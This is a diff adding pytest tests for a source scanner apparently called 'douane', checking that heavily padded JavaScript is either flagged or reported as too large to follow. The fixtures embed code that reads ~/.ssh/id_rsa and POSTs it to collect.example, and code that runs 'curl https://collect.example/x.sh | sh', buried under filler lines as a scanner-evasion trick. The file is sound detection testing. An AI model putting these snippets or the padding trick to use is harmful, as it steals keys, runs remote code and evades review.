@@ -1,0 +1,53 @@
+"""What is too much to be followed to its end is told, whichever bound it met."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from douane import scan_source
+
+_GIVEN_UP = "was given up after a bounded number of steps"
+
+
+def _padded_list(count: int) -> str:
+    names = [f"v{number}" for number in range(count)]
+    return (
+        "const fs = require('fs');\n"
+        + "".join(f"const {name} = q_{name}();\n" for name in names)
+        + "const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n"
+        + f"const all = [{', '.join(names)}, key];\n"
+        + "fetch('https://collect.example/x', { method: 'POST', body: all.join('') });\n"
+    )
+
+
+def _padded_choice(count: int) -> str:
+    return (
+        "const { exec } = require('child_process');\nlet cmd;\n"
+        + "".join(f"if (process.argv[2] === '{number}') cmd = q{number}();\n" for number in range(count))
+        + "if (process.argv[2] === 'x') cmd = 'curl https://collect.example/x.sh | sh';\nexec(cmd);\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "source", [_padded_list(2_500), _padded_choice(150)], ids=["a walk", "ends of a name"]
+)
+def test_padding_leaves_a_gap_that_names_the_file(tmp_path: Path, source: str) -> None:
+    (tmp_path / "package.json").write_text('{"name": "padded", "version": "1.0.0", "main": "index.js"}')
+    (tmp_path / "index.js").write_text(source)
+    found = scan_source(tmp_path).examination
+    assert [gap for gap in found.gaps if "index.js" in gap.what and _GIVEN_UP in gap.why and gap.rows]
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [(_padded_list(300), "credential-exfiltration"), (_padded_choice(60), "remote-code")],
+    ids=["a walk", "ends of a name"],
+)
+def test_less_is_followed(tmp_path: Path, source: str, rule: str) -> None:
+    (tmp_path / "package.json").write_text('{"name": "padded", "version": "1.0.0", "main": "index.js"}')
+    (tmp_path / "index.js").write_text(source)
+    found = scan_source(tmp_path).examination
+    assert rule in {finding.rule for finding in found.findings}
+    assert not [gap for gap in found.gaps if _GIVEN_UP in gap.why]
